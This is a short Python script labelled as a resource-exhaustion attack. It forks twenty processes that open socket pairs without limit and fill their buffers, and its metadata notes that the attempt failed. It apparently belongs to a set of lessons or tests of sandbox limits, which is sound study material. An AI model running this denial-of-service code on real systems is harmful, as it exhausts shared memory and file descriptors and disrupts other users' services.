# attack: fills the buffers of as many sockets and pipes as it can open, in many processes
# lesson: 1
# outcome: failed
# says: sockets
import os
import socket
import time

for _ in range(20):
    if os.fork() == 0:
        held = []
        try:
            while True:
                pair = socket.socketpair()
                pair[0].setblocking(False)
                held.append(pair)
                try:
                    while True:
                        pair[0].send(b"x" * 65536)
                except OSError:
                    pass
        except OSError:
            pass
        time.sleep(60)
time.sleep(60)
